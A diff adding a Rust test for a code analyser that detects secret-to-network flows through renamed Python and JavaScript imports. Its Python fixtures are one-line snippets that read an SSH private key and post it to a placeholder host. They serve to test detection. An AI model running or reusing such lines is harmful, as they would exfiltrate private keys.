@@ -133,6 +133,38 @@ fn javascript_shows_variables_and_flows() {
 }
 
 #[test]
+fn other_names_of_a_function_are_followed() {
+    use FactKind::{Flow, Path};
+    let expected = [(Path, "/home/u/.ssh/id_rsa"), (Flow, "secret-file>network")];
+    for code in [
+        "import requests as r\nr.post('//x', data=open('/home/u/.ssh/id_rsa').read())\n",
+        "from requests import post\npost('//x', data=open('/home/u/.ssh/id_rsa').read())\n",
+        "from requests import (get, post as p)\np('//x', data=open('/home/u/.ssh/id_rsa').read())\n",
+    ] {
+        check(Language::Python, code, &expected);
+    }
+    check(
+        Language::Python,
+        "from records import post\npost('//x', data=open('/home/u/.ssh/id_rsa').read())\n",
+        &[(Path, "/home/u/.ssh/id_rsa")],
+    );
+    for code in [
+        "const { exec: go } = require('child_process');\ngo('git log');\n",
+        "const cp = require('node:child_process');\ncp.exec('git log');\n",
+        "import { execSync as go } from 'child_process';\ngo('git log');\n",
+        "import * as cp from \"child_process\";\ncp.spawn('git', ['log']);\n",
+        "require('child_process').exec('git log');\n",
+    ] {
+        check(Language::JavaScript, code, &[(FactKind::Program, "git")]);
+    }
+    check(
+        Language::JavaScript,
+        "const { exec: go } = require('other');\ngo('git log');\n",
+        &[],
+    );
+}
+
+#[test]
 fn what_outlives_a_run_is_named() {
     use FactKind::{Path, Persistence};
     check(
